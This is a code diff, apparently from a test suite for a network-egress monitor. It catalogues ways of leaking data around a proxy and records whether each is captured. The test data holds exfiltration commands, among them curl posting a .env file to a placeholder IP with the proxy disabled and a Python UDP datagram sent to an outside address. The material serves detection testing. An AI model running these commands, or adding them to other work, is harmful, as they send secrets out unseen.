@@ -12,7 +12,8 @@ _BYPASS = "the connection is recorded, what it carried is not"
 
 def _direct(id: str, title: str, script: str, **more: Any) -> Way:
     """Seen as a connection, unless `more` says otherwise."""
-    seen = {"claim": Claim.GAP, "gap": "proxy-bypass", "remark": _BYPASS} if "claim" not in more else {}
+    told = {"claim": Claim.GAP, "captured": Claim.EXACT, "gap": "proxy-bypass", "remark": _BYPASS}
+    seen = told if "claim" not in more else {}
     return Way(id=id, title=title, script=script, host="", **{**seen, **more})
 
 
@@ -30,7 +31,7 @@ AROUND = Family(
             'env -i PATH="$PATH" PIDS="$PIDS" noted curl -sSk -d @.env "$URL"',
         ),
         _direct(
-            "address", "`curl` to an address, no proxy", "noted curl -sSk --noproxy '*' -d @.env https://203.0.113.1/"
+            "address", "`curl` to an address, no proxy", "noted curl -sSk --noproxy '*' -d @.env http://203.0.113.8/"
         ),
         _direct(
             "http-client",
@@ -57,6 +58,7 @@ AROUND = Family(
             "udp",
             "a datagram (`sendto`)",
             _python('c = socket.socket(type=socket.SOCK_DGRAM); c.sendto(s, ("203.0.113.53", 443))'),
+            captured=None,
         ),
         _direct(
             "udp-sendmsg",
@@ -97,6 +99,7 @@ AROUND = Family(
             gap="tls-refused",
             stopped=True,
             remark="it refuses our certificate; nothing leaves",
+            captured=None,
         ),
         Way(
             id="fronting",
